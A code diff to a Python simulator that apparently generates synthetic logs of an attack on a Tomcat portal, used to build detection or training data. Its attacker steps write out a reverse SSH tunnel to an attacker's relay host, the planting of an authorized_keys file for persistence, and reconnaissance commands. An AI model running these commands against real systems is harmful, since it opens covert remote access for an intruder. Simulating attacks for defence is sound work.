@@ -76,16 +76,15 @@ class _Scene:
             at, command, uid=_UID, user=_USER, exe=exe, folder="/opt/tomcat", parent=parent or self.parent
         )
 
-    def ordered(self, at: int, command: str, *, size: int = 0) -> int:
+    def ordered(self, at: int, command: str) -> None:
         """A command by way of the page: the request, Java's starter of programs, a shell, and what the shell starts."""
-        self.asked(at, self.page, method="POST", size=size or self.random.randrange(60, 3_800))
+        self.asked(at, self.page, method="POST", size=self.random.randrange(60, 3_800))
         starter = self.executed(at + 20_000, f"{_JAVA}lib/jspawnhelper 21.0.8+9-LTS 61:64", f"{_JAVA}lib/jspawnhelper")
         shell = self.executed(at + 24_000, f"/bin/bash -c {shlex.quote(command)}", "/usr/bin/bash", starter)
         for number, part in enumerate(command.split(" && ")):
             name = shlex.split(part)[0]
             folder = "/usr/sbin" if name == "ip" else "/usr/bin"
             self.executed(at + 30_000 + number * SECOND, part.partition(" > ")[0], f"{folder}/{name}", shell)
-        return shell
 
 
 def tracking_exploited(
@@ -149,15 +148,10 @@ def _placed(attack: Attack, scene: _Scene, at: int) -> None:
 
 
 def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
-    balancer = scene.world.server("balancer").address
     what = "Commands are run by the page as the portal's account"
     with attack.step(at, what, "T1059.004", scene.attacker, scene.machine.name, _USER):
         for number, command in enumerate(_COMMANDS):
             scene.ordered(at + number * 47 * SECOND, command)
-        scene.world.products.ids.alert(
-            at + 50_000, scene.machine.address, balancer, 51_224, sport=8080, number=1000412,
-            signature="LOCAL web server answers with the output of id", category="Potentially Bad Traffic", severity=2,
-        )  # fmt: skip
         scene.connected(at + 9 * MINUTE, scene.attacker, sent=31_000, received=96_000, seconds=530)
 
 
@@ -208,26 +202,28 @@ def _taken(attack: Attack, scene: _Scene, at: int) -> None:
 
 def _tunnelled(attack: Attack, scene: _Scene, at: int, tunnel: str) -> None:
     products, address, home = scene.world.products, scene.machine.address, "/usr/share/tomcat/.ssh"
-    what = "A tunnel to the attacker's server is opened from inside, to come back without the portal"
+    what = "A tunnel to the attacker's server is opened from inside, and a key put there to come back through it"
     with attack.step(at, what, "T1572", scene.machine.name, scene.store, tunnel, _USER):
         scene.ordered(at, f"mkdir -p {home} && ssh-keygen -q -t ed25519 -N '' -f {home}/id_ed25519")
         options = "-o StrictHostKeyChecking=no -o ServerAliveInterval=60"
-        scene.ordered(at + 2 * MINUTE, f"ssh -f -N {options} -R 8022:127.0.0.1:22 -p 443 relay@{tunnel}")
+        scene.ordered(at + 2 * MINUTE, f"ssh -f -N {options} -R 8022:127.0.0.1:22 relay@{tunnel}")
         products.resolver.query(at + 2 * MINUTE + 40_000, address, tunnel, millis=57)
         products.firewall.session(
-            at + 305 * MINUTE, address, scene.store, 443, sent=4_830_000, received=1_960_000, seconds=18_180
+            at + 305 * MINUTE, address, scene.store, 22, sent=4_830_000, received=1_960_000, seconds=18_180
         )
-        scene.connected(at + 4 * MINUTE, scene.attacker, sent=3_300, received=5_200, seconds=130)
+        put = f"install -m 600 /var/lib/tracking/incoming/71344.txt {home}/authorized_keys"
+        scene.ordered(at + 5 * MINUTE, put)
+        products.linux["shop"].wrote(
+            at + 5 * MINUTE + 40_000, f"{home}/authorized_keys", uid=_UID, user=_USER, exe="/usr/bin/install", command=put,
+            folder="/opt/tomcat", key="keys",
+        )  # fmt: skip
+        scene.connected(at + 7 * MINUTE, scene.attacker, sent=3_300, received=5_200, seconds=130)
 
 
 def _returned(attack: Attack, scene: _Scene, at: int) -> None:
     linux = scene.world.products.linux["shop"]
     what = "The portal's account logs in by SSH from the machine itself, out of the tunnel"
     with attack.step(at, what, "T1021.004", scene.machine.name, _USER, told=False):
-        linux.wrote(
-            at - 3 * MINUTE, "/usr/share/tomcat/.ssh/authorized_keys", uid=_UID, user=_USER, exe="/usr/bin/bash",
-            command="/bin/bash", folder="/usr/share/tomcat", key="keys",
-        )  # fmt: skip
         linux.ssh(at, _USER, _UID, "127.0.0.1", seconds=2_640)
         for number, command in enumerate(("id", "uname -r", "ss -antp", "cat /etc/hosts", "last -n 20")):
             linux.executed(
